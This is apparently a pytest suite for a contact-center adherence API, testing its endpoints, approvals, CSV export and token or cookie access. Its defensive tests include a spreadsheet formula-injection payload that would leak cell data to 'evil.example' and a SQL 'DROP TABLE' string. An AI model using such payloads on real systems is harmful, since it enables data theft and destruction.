"""The HTTP read paths and approvals: /api/agents, /api/exceptions, /api/adherence, approve/withdraw.

A small contact center is fed through the real webhook and evaluated at a
fixed clock, then read back over HTTP as JSON and CSV.
"""

from __future__ import annotations

import csv
import io
import logging
import shutil
import time

import pytest

from adherence.queries import ADHERENCE_COLUMNS, EXCEPTION_COLUMNS
from adherence.timeutil import iso, parse_instant_ms
from adherence.web.api import SESSION_COOKIE, session_valid, session_value

from conftest import REPO, Center

ANN = "WK" + "a" * 32
BOB = "WK" + "b" * 32
CAT = "WK" + "c" * 32
STRAY = "WK" + "d" * 32  # in the feed, not in the roster
ROSTER = f"""
timezone: America/New_York
agents:
  ann: {{worker_sid: {ANN}, name: Ann Able, team: tier1}}
  bob: {{worker_sid: {BOB}, name: Bob Baker, team: tier2}}
  cat: {{worker_sid: {CAT}, name: Cat Cole, team: tier1}}
shifts:
  - agents: [ann, bob, cat]
    days: [mon, tue, wed, thu, fri, sat, sun]
    segments:
      - 09:00-17:00 Available
      - 12:00-12:15 Break
"""
EXC_HEADER = "id,agent,worker_sid,team,rule,severity,scheduled_activity,actual_activity,task_state,start,end,duration_seconds,status,approved,note"
ADH_HEADER = ("date,agent,worker_sid,team,scheduled_seconds,in_adherence_seconds,out_of_adherence_seconds,"
              "approved_seconds,adherence_percent,conformance_percent,exceptions,stale,neutral_seconds")
DAY = "2026-11-24"


def T(local: str) -> int:
    """'09:40' on 2026-11-24, New York time (EST, UTC-5) → epoch ms."""
    return parse_instant_ms(f"{DAY}T{local}:00-05:00")


def make_folder(tmp_path, api_token: str | None = None):
    (tmp_path / "schedules").mkdir()
    (tmp_path / "schedules" / "roster.yaml").write_text(ROSTER)
    shutil.copytree(REPO / "rules", tmp_path / "rules", ignore=shutil.ignore_patterns("tests"))
    cfg = "database: a.db\ntimezone: America/New_York\nschedules: schedules\nrules: rules\n"
    if api_token:
        cfg += "auth:\n  api_token: ${ADHERENCE_API_TOKEN}\n"
    (tmp_path / "config.yaml").write_text(cfg)
    return tmp_path


def build_center(tmp_path) -> Center:
    """Ann: Offline 10:00-10:20 (closed exception). Bob: Offline since 11:00 (open). Cat: on a call.
    A stray worker not in the roster. Evaluated at 11:30."""
    c = Center(tmp_path, T("08:50"))
    for w in (ANN, BOB, CAT):
        c.send(w, T("08:58"), "Available")
    c.send(STRAY, T("09:10"), "Available")
    c.send(ANN, T("10:00"), "Offline")
    c.send(ANN, T("10:20"), "Available")
    c.send(CAT, T("11:10"), "Available", "active")
    c.send(BOB, T("11:00"), "Offline")
    c.tick(T("10:10"))
    c.tick(T("11:30"))
    return c


@pytest.fixture
def center(tmp_path):
    c = build_center(make_folder(tmp_path))
    yield c
    c.engine.close()


def by_agent(rows):
    return {r["agent"]: r for r in rows}


def parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# -- /api/agents -------------------------------------------------------------------


def test_agents_live_board_data(center):
    resp = center.client.get("/api/agents")
    assert resp.status_code == 200
    body = resp.get_json()
    assert body["ok"] is True and body["now"] == iso(T("11:30")) and body["date"] == DAY
    assert body["teams"] == ["tier1", "tier2"]
    agents = by_agent(body["agents"])
    assert set(agents) == {"ann", "bob", "cat", STRAY}
    assert body["total"] == 4 and body["next"] is None
    ann, bob, cat, stray = agents["ann"], agents["bob"], agents["cat"], agents[STRAY]
    assert ann["name"] == "Ann Able" and ann["worker_sid"] == ANN and ann["team"] == "tier1"
    assert ann["activity"] == "Available" and ann["task_state"] == "none"
    assert ann["since"] == iso(T("10:20")) and ann["seconds_in_state"] == 70 * 60
    assert ann["scheduled_activity"] == "Available" and ann["in_adherence"] is True and ann["open_exceptions"] == []
    assert ann["today"]["date"] == DAY and ann["today"]["out_of_adherence_seconds"] == 20 * 60
    assert ann["today"]["scheduled_seconds"] == 150 * 60
    assert bob["activity"] == "Offline" and bob["in_adherence"] is False
    (exc,) = bob["open_exceptions"]
    assert exc["rule"] == "offline-when-scheduled-available" and exc["severity"] == "critical"
    assert exc["start"] == iso(T("11:00")) and exc["duration_seconds"] == 1800 and exc["approved"] is False
    assert cat["task_state"] == "active" and cat["channels"][0]["name"] == "voice"
    assert cat["channels"][0]["task_state"] == "active" and cat["since"] == iso(T("11:10"))
    assert stray["name"] == STRAY and stray["team"] is None and stray["in_roster"] is False
    assert stray["scheduled_activity"] is None and stray["in_adherence"] is False  # overtime, unscheduled
    assert [e["rule"] for e in stray["open_exceptions"]] == ["available-when-unscheduled"]
    # sorted by team, then name; agents without a team last
    assert [a["agent"] for a in body["agents"]] == ["ann", "cat", "bob", STRAY]


def test_agents_filters(center):
    out = center.client.get("/api/agents?out_of_adherence=true").get_json()
    assert [a["agent"] for a in out["agents"]] == ["bob", STRAY] and out["total"] == 2
    inn = center.client.get("/api/agents?out_of_adherence=false").get_json()
    assert "bob" not in by_agent(inn["agents"])
    team = center.client.get("/api/agents?team=tier1").get_json()
    assert [a["agent"] for a in team["agents"]] == ["ann", "cat"]
    one = center.client.get("/api/agents?agent=" + BOB).get_json()
    assert [a["agent"] for a in one["agents"]] == ["bob"]
    page = center.client.get("/api/agents?limit=2&offset=1").get_json()
    assert [a["agent"] for a in page["agents"]] == ["cat", "bob"] and page["total"] == 4
    assert page["next"].endswith("offset=3") or "offset=3" in page["next"]


@pytest.mark.parametrize("query, words", [
    ("out_of_adherence=maybe", "out_of_adherence: expected true or false"),
    ("agent=zed", "unknown agent 'zed'"),
    ("colour=red", "unknown filter 'colour'"),
    ("limit=0", "limit: expected between 1 and 100000"),
    ("format=csv", "format: expected json"),
])
def test_agents_errors(center, query, words):
    resp = center.client.get("/api/agents?" + query)
    assert resp.status_code == 400
    body = resp.get_json()
    assert body["ok"] is False and body["status"] == 400 and words in body["error"]


def test_approval_shows_at_once_on_the_board(center):
    bob_exc = center.client.get("/api/agents?agent=bob").get_json()["agents"][0]["open_exceptions"][0]
    center.client.post(f"/api/exceptions/{bob_exc['id']}/approve", json={"by": "sam", "note": "fire drill"})
    bob = center.client.get("/api/agents?agent=bob").get_json()["agents"][0]
    assert bob["in_adherence"] is True and bob["open_exceptions"][0]["approved"] is True
    assert bob["today"]["out_of_adherence_seconds"] == 0 and bob["today"]["approved_seconds"] == 1800


# -- /api/exceptions ----------------------------------------------------------------


def test_exceptions_json(center):
    resp = center.client.get("/api/exceptions")
    assert resp.status_code == 200 and resp.mimetype == "application/json"
    body = resp.get_json()
    assert body["total"] == 3 and body["limit"] == 100 and body["offset"] == 0 and body["next"] is None
    bob, ann, stray = body["exceptions"]  # newest first
    assert (stray["agent"], stray["team"], stray["rule"]) == (STRAY, None, "available-when-unscheduled")
    assert stray["severity"] == "info" and stray["scheduled_activity"] is None
    assert (ann["agent"], ann["status"], ann["start"], ann["end"]) == ("ann", "closed", iso(T("10:00")), iso(T("10:20")))
    assert ann["duration_seconds"] == 1200 and ann["day"] == DAY and ann["approved"] is False
    assert (bob["agent"], bob["status"], bob["end"]) == ("bob", "open", None)
    for row in (ann, bob):
        assert row["start"].endswith("Z")
        assert list(row)[: len(EXCEPTION_COLUMNS)] == EXCEPTION_COLUMNS or set(EXCEPTION_COLUMNS) <= set(row)


@pytest.mark.parametrize("query, agents", [
    ("status=open", ["bob", STRAY]),
    ("status=closed", ["ann"]),
    ("team=tier1", ["ann"]),
    ("agent=ann", ["ann"]),
    (f"agent={BOB}", ["bob"]),
    ("severity=critical", ["bob", "ann"]),
    ("severity=info", [STRAY]),
    ("rule=offline-when-scheduled-available", ["bob", "ann"]),
    ("rule=nope", []),
    (f"date={DAY}", ["bob", "ann", STRAY]),
    ("date=2026-11-23", []),
    (f"from={DAY}&to={DAY}", ["bob", "ann", STRAY]),
    ("from=2026-11-25", []),
    ("approved=false", ["bob", "ann", STRAY]),
    (f"agent={STRAY}", [STRAY]),
    ("approved=true", []),
])
def test_exceptions_filters(center, query, agents):
    body = center.client.get("/api/exceptions?" + query).get_json()
    assert [e["agent"] for e in body["exceptions"]] == agents and body["total"] == len(agents)


def test_exceptions_pagination(center):
    first = center.client.get("/api/exceptions?limit=1").get_json()
    assert first["total"] == 3 and len(first["exceptions"]) == 1 and first["exceptions"][0]["agent"] == "bob"
    assert first["next"] is not None
    second = center.client.get(first["next"]).get_json()
    assert second["offset"] == 1 and [e["agent"] for e in second["exceptions"]] == ["ann"]
    third = center.client.get(second["next"]).get_json()
    assert [e["agent"] for e in third["exceptions"]] == [STRAY] and third["next"] is None
    assert center.client.get("/api/exceptions?offset=5").get_json()["exceptions"] == []


def test_exceptions_csv_header_and_rows(center):
    resp = center.client.get("/api/exceptions?format=csv")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    assert resp.is_streamed
    assert "attachment" in resp.headers["Content-Disposition"]
    text = resp.get_data(as_text=True)
    assert text.split("\r\n", 1)[0] == EXC_HEADER == ",".join(EXCEPTION_COLUMNS)
    rows = parse_csv(text)
    assert len(rows) == 4
    bob = dict(zip(rows[0], rows[1]))
    assert bob["agent"] == "bob" and bob["end"] == "" and bob["status"] == "open" and bob["approved"] == "false"
    assert bob["start"] == iso(T("11:00"))


def test_csv_by_accept_header_and_filters(center):
    resp = center.client.get("/api/exceptions?status=closed", headers={"Accept": "text/csv"})
    assert resp.mimetype == "text/csv"
    rows = parse_csv(resp.get_data(as_text=True))
    assert [r[1] for r in rows[1:]] == ["ann"]
    # a browser's Accept (html, */*) still gets JSON
    resp = center.client.get("/api/exceptions", headers={"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"})
    assert resp.mimetype == "application/json"
    assert center.client.get("/api/exceptions?format=json", headers={"Accept": "text/csv"}).mimetype == "application/json"


def test_csv_neutralises_formula_injection(center):
    (ann,) = center.client.get("/api/exceptions?agent=ann").get_json()["exceptions"]
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    resp = center.client.post(f"/api/exceptions/{ann['id']}/approve", json={"by": "+sam", "note": evil})
    assert resp.status_code == 200 and resp.get_json()["exception"]["note"] == evil  # JSON keeps the text as is
    rows = parse_csv(center.client.get("/api/exceptions?agent=ann&format=csv").get_data(as_text=True))
    row = dict(zip(rows[0], rows[1]))
    assert row["note"] == "'" + evil
    assert row["approved"] == "true"
    # numbers are not touched
    assert row["duration_seconds"] == "1200"


def test_csv_unknown_agent_is_an_error_not_a_broken_stream(center):
    resp = center.client.get("/api/exceptions?agent=zed&format=csv")
    assert resp.status_code == 400 and resp.get_json()["error"].startswith("unknown agent 'zed'")


def test_exception_by_id(center):
    (ann,) = center.client.get("/api/exceptions?agent=ann").get_json()["exceptions"]
    resp = center.client.get(f"/api/exceptions/{ann['id']}")
    one = resp.get_json()["exception"]
    assert resp.status_code == 200 and one.pop("history") == [] and one == ann  # one also carries its history


@pytest.mark.parametrize("path", ["/api/exceptions/999", "/api/exceptions/abc", "/api/exceptions/-1",
                                  "/api/exceptions/99999999999999999999999"])
def test_unknown_exception_id_is_404(center, path):
    resp = center.client.get(path)
    assert resp.status_code == 404
    body = resp.get_json()
    assert body["ok"] is False and body["status"] == 404 and "no exception with id" in body["error"]


@pytest.mark.parametrize("query, words", [
    ("date=2026-13-01", "date: expected a date as YYYY-MM-DD"),
    ("date=yesterday", "date: expected a date as YYYY-MM-DD"),
    ("from=2026-11-25&to=2026-11-24", "from (2026-11-25) is after to (2026-11-24)"),
    ("date=2026-11-24&from=2026-11-24", "give either date or from/to"),
    ("agent=zed", "unknown agent 'zed'"),
    ("colour=red", "unknown filter 'colour'"),
    ("severity=huge", "severity: expected one of info, warning, critical"),
    ("status=pending", "status: expected open or closed"),
    ("approved=perhaps", "approved: expected true or false"),
    ("limit=0", "limit: expected between 1 and 1000"),
    ("limit=1001", "limit: expected between 1 and 1000"),
    ("limit=ten", "limit: expected a whole number"),
    ("offset=-1", "offset: expected between 0 and 1000000000"),
    ("format=xml", "format: expected json or csv"),
    ("team=a&team=b", "repeated: team"),
])
def test_exceptions_errors(center, query, words):
    resp = center.client.get("/api/exceptions?" + query)
    assert resp.status_code == 400, resp.data
    body = resp.get_json()
    assert body["ok"] is False and body["status"] == 400 and words in body["error"]
    assert body["errors"]


# -- approvals ----------------------------------------------------------------------


def test_approve_and_withdraw_change_the_figures_at_once(center):
    (ann,) = center.client.get("/api/exceptions?agent=ann").get_json()["exceptions"]

    def day():
        (row,) = center.client.get(f"/api/adherence?agent=ann&date={DAY}").get_json()["adherence"]
        return row

    before = day()
    assert before["out_of_adherence_seconds"] == 1200 and before["approved_seconds"] == 0
    resp = center.client.post(f"/api/exceptions/{ann['id']}/approve", json={"note": "doctor", "by": "sam"})
    assert resp.status_code == 200
    exc = resp.get_json()["exception"]
    assert exc["approved"] is True and exc["approved_by"] == "sam" and exc["note"] == "doctor"
    assert exc["approved_at"] == iso(T("11:30"))
    after = day()
    assert after["out_of_adherence_seconds"] == 0 and after["approved_seconds"] == 1200
    assert after["adherence_percent"] == 100.0
    assert center.client.get("/api/exceptions?approved=true").get_json()["total"] == 1

    resp = center.client.delete(f"/api/exceptions/{ann['id']}/approve")
    assert resp.status_code == 200 and resp.get_json()["exception"]["approved"] is False
    assert day()["out_of_adherence_seconds"] == 1200

    center.client.post(f"/api/exceptions/{ann['id']}/approve", json={"by": "sam"})
    resp = center.client.post(f"/api/exceptions/{ann['id']}/unapprove", json={"note": "not a doctor", "by": "kim"})
    exc = resp.get_json()["exception"]
    assert exc["approved"] is False and exc["note"] == "not a doctor" and exc["approved_by"] is None
    assert day() == {**before, "as_of": day()["as_of"]}


@pytest.mark.parametrize("kwargs, status, words", [
    ({"data": "note=x", "content_type": "application/x-www-form-urlencoded"}, 415, "expected Content-Type: application/json"),
    ({"data": "{not json", "content_type": "application/json"}, 400, "not valid JSON"),
    ({"json": ["sam"]}, 400, "expected a JSON object"),
    ({}, 400, "expected a JSON body"),
    ({"json": {"note": "x"}}, 400, "by: who approves is required"),
    ({"json": {"by": "  "}}, 400, "by: who approves is required"),
    ({"json": {"by": "sam", "reason": "x"}}, 400, "unknown field 'reason'"),
    ({"json": {"by": 5}}, 400, "by: expected text"),
    ({"json": {"by": "sam", "note": "x" * 2001}}, 400, "note: at most 2000 characters"),
])
def test_approve_errors(center, kwargs, status, words):
    (ann,) = center.client.get("/api/exceptions?agent=ann").get_json()["exceptions"]
    resp = center.client.post(f"/api/exceptions/{ann['id']}/approve", **kwargs)
    assert resp.status_code == status, resp.data
    body = resp.get_json()
    assert body["ok"] is False and body["status"] == status and words in body["error"]
    assert center.client.get(f"/api/exceptions/{ann['id']}").get_json()["exception"]["approved"] is False


def test_approve_unknown_exception_is_404(center):
    resp = center.client.post("/api/exceptions/424242/approve", json={"by": "sam"})
    assert resp.status_code == 404 and resp.get_json()["error"] == "no exception with id 424242"
    assert center.client.delete("/api/exceptions/424242/approve").status_code == 404
    assert center.client.post("/api/exceptions/x/unapprove").status_code == 404


def test_wrong_methods_are_405_in_the_error_shape(center):
    resp = center.client.put("/api/exceptions/1/approve", json={})
    assert resp.status_code == 405 and resp.get_json()["ok"] is False
    assert center.client.post("/api/exceptions").status_code == 405


# -- /api/adherence -----------------------------------------------------------------


def test_adherence_json(center):
    body = center.client.get("/api/adherence").get_json()
    assert body["group"] == "agent" and body["total"] == 3 and body["next"] is None
    rows = by_agent(body["adherence"])
    # the stray's exception lies outside any schedule: no scheduled time, no adherence row
    assert set(rows) == {"ann", "bob", "cat"}
    ann = rows["ann"]
    assert ann["date"] == DAY and ann["worker_sid"] == ANN and ann["team"] == "tier1"
    assert ann["scheduled_seconds"] == 9000 and ann["out_of_adherence_seconds"] == 1200
    assert ann["in_adherence_seconds"] == 7800 and ann["adherence_percent"] == round(7800 / 9000 * 100, 2)
    assert ann["exceptions"] == 1 and ann["as_of"] == iso(T("11:30"))


@pytest.mark.parametrize("query, agents", [
    ("team=tier1", {"ann", "cat"}),
    ("agent=bob", {"bob"}),
    (f"date={DAY}", {"ann", "bob", "cat"}),
    ("date=2026-11-23", set()),
    (f"from=2026-11-01&to={DAY}", {"ann", "bob", "cat"}),
])
def test_adherence_filters(center, query, agents):
    body = center.client.get("/api/adherence?" + query).get_json()
    assert {r["agent"] for r in body["adherence"]} == agents


def test_adherence_by_team(center):
    body = center.client.get(f"/api/adherence?group=team&date={DAY}").get_json()
    assert body["group"] == "team" and body["total"] == 2
    teams = {r["team"]: r for r in body["adherence"]}
    assert teams["tier1"]["agents"] == 2 and teams["tier1"]["scheduled_seconds"] == 18000
    assert teams["tier1"]["out_of_adherence_seconds"] == 1200
    assert teams["tier1"]["adherence_percent"] == round(16800 / 18000 * 100, 2)
    assert teams["tier2"]["out_of_adherence_seconds"] == 1800
    page = center.client.get("/api/adherence?group=team&limit=1").get_json()
    assert len(page["adherence"]) == 1 and page["total"] == 2 and page["next"]


def test_adherence_csv(center):
    resp = center.client.get("/api/adherence?format=csv&team=tier1")
    assert resp.mimetype == "text/csv" and resp.is_streamed
    text = resp.get_data(as_text=True)
    assert text.split("\r\n", 1)[0] == ADH_HEADER == ",".join(ADHERENCE_COLUMNS)
    rows = [dict(zip(parse_csv(text)[0], r)) for r in parse_csv(text)[1:]]
    assert {r["agent"] for r in rows} == {"ann", "cat"}
    ann = next(r for r in rows if r["agent"] == "ann")
    assert ann["scheduled_seconds"] == "9000" and ann["adherence_percent"] == str(round(7800 / 9000 * 100, 2))
    team = center.client.get("/api/adherence?group=team", headers={"Accept": "text/csv"}).get_data(as_text=True)
    assert team.split("\r\n", 1)[0].startswith("date,team,agents,scheduled_seconds")


@pytest.mark.parametrize("query, words", [
    ("group=site", "group: expected agent or team"),
    ("rule=x", "unknown filter 'rule'"),
    ("date=24/11/2026", "date: expected a date"),
    ("agent=nobody", "unknown agent 'nobody'"),
    ("limit=5000", "limit: expected between 1 and 1000"),
])
def test_adherence_errors(center, query, words):
    resp = center.client.get("/api/adherence?" + query)
    assert resp.status_code == 400 and words in resp.get_json()["error"]


def test_never_a_server_error_on_odd_input(center):
    odd = ["\x00", "%", "'; DROP TABLE exceptions; --", "9" * 40, "2026-02-30", "-", " ", "true", "é"]
    for path in ("/api/exceptions", "/api/adherence", "/api/agents"):
        for key in ("date", "from", "agent", "team", "limit", "offset", "status", "group", "format", "approved"):
            for v in odd:
                resp = center.client.get(path, query_string={key: v})
                assert resp.status_code < 500, (path, key, v, resp.data)
    assert center.client.get("/api/exceptions").get_json()["total"] == 3


# -- access -------------------------------------------------------------------------

TOKEN = "s3cret-token-for-tests"


@pytest.fixture
def guarded(tmp_path, monkeypatch):
    monkeypatch.setenv("ADHERENCE_API_TOKEN", TOKEN)
    c = build_center(make_folder(tmp_path, api_token=TOKEN))
    yield c
    c.engine.close()


def test_without_a_token_configured_the_api_is_open(center):
    assert center.engine.config.api_token is None
    assert center.client.get("/api/agents").status_code == 200


@pytest.mark.parametrize("path", ["/api/agents", "/api/exceptions", "/api/exceptions/1", "/api/adherence",
                                  "/api/exceptions?format=csv"])
def test_token_required(guarded, path):
    resp = guarded.client.get(path)
    assert resp.status_code == 401
    assert resp.headers["WWW-Authenticate"] == 'Bearer realm="adherence"'
    body = resp.get_json()
    assert body["ok"] is False and body["status"] == 401 and "Authorization: Bearer" in body["error"]
    wrong = guarded.client.get(path, headers={"Authorization": "Bearer nope"})
    assert wrong.status_code == 401 and 'error="invalid_token"' in wrong.headers["WWW-Authenticate"]
    basic = guarded.client.get(path, headers={"Authorization": "Basic " + TOKEN})
    assert basic.status_code == 401
    ok = guarded.client.get(path, headers={"Authorization": f"Bearer {TOKEN}"})
    assert ok.status_code in (200, 404)


def test_approve_requires_the_token(guarded):
    (exc, *_) = guarded.client.get("/api/exceptions", headers={"Authorization": f"Bearer {TOKEN}"}).get_json()["exceptions"]
    assert guarded.client.post(f"/api/exceptions/{exc['id']}/approve", json={"by": "x"}).status_code == 401
    assert guarded.client.delete(f"/api/exceptions/{exc['id']}/approve").status_code == 401
    resp = guarded.client.post(f"/api/exceptions/{exc['id']}/approve", json={"by": "x"},
                               headers={"Authorization": f"bearer {TOKEN}"})
    assert resp.status_code == 200


def test_health_webhook_and_openapi_keep_their_own_rules(guarded):
    assert guarded.client.get("/health").status_code == 200
    assert guarded.client.get("/metrics").status_code == 200
    assert guarded.client.get("/openapi.json").status_code == 200
    guarded.send(ANN, T("11:31"), "Available")  # the webhook has no Twilio token configured here


def test_board_cookie_opens_the_api(guarded):
    resp = guarded.client.post("/login", data={"token": TOKEN, "next": "/"})
    assert resp.status_code == 302
    cookie = guarded.client.get_cookie(SESSION_COOKIE)
    assert cookie is not None and TOKEN not in cookie.value
    assert guarded.client.get("/api/agents").status_code == 200
    (exc, *_) = guarded.client.get("/api/exceptions").get_json()["exceptions"]
    assert guarded.client.post(f"/api/exceptions/{exc['id']}/approve", json={"by": "wall"}).status_code == 200


def test_forged_or_expired_cookies_are_refused(guarded):
    value, _ = session_value(TOKEN)
    version, expires, mac = value.split(".")
    for bad in (f"{version}.{int(expires) + 1}.{mac}", f"{version}.{expires}.{'0' * 64}", TOKEN, "v1.x.y", "",
                session_value("another-token")[0]):
        guarded.client.set_cookie(SESSION_COOKIE, bad)
        assert guarded.client.get("/api/agents").status_code == 401, bad
    old, max_age = session_value(TOKEN, now_s=int(time.time()) - 10 - 30 * 86_400)
    assert not session_valid(old, TOKEN)
    guarded.client.set_cookie(SESSION_COOKIE, old)
    assert guarded.client.get("/api/agents").status_code == 401
    guarded.client.set_cookie(SESSION_COOKIE, value)
    assert guarded.client.get("/api/agents").status_code == 200


def test_the_token_is_never_logged(guarded, caplog):
    caplog.set_level(logging.DEBUG)
    guarded.client.get("/api/agents", headers={"Authorization": f"Bearer {TOKEN}x"})
    guarded.client.get("/api/agents", headers={"Authorization": f"Bearer {TOKEN}"})
    guarded.client.post("/login", data={"token": TOKEN + "x"})
    guarded.client.post("/login", data={"token": TOKEN})
    assert caplog.records  # the refusals were logged ...
    assert all(TOKEN not in r.getMessage() and TOKEN not in str(r.__dict__) for r in caplog.records)  # ... without it


def test_changes_with_the_board_cookie_must_be_json(guarded):
    """Defence in depth besides SameSite=Strict: a cross-site HTML form cannot send application/json."""
    guarded.client.post("/login", data={"token": TOKEN})
    (exc, *_) = guarded.client.get("/api/exceptions").get_json()["exceptions"]
    resp = guarded.client.post(f"/api/exceptions/{exc['id']}/unapprove")
    assert resp.status_code == 403 and "Content-Type: application/json" in resp.get_json()["error"]
    resp = guarded.client.post(f"/api/exceptions/{exc['id']}/approve", data="by=x",
                               content_type="application/x-www-form-urlencoded")
    assert resp.status_code == 403
    assert guarded.client.post(f"/api/exceptions/{exc['id']}/approve", json={"by": "x"}).status_code == 200
    assert guarded.client.delete(f"/api/exceptions/{exc['id']}/approve", json={}).status_code == 200


def test_api_responses_are_not_cached(center):
    resp = center.client.get("/api/exceptions")
    assert resp.headers["Cache-Control"] == "no-store" and "Accept" in resp.headers["Vary"]
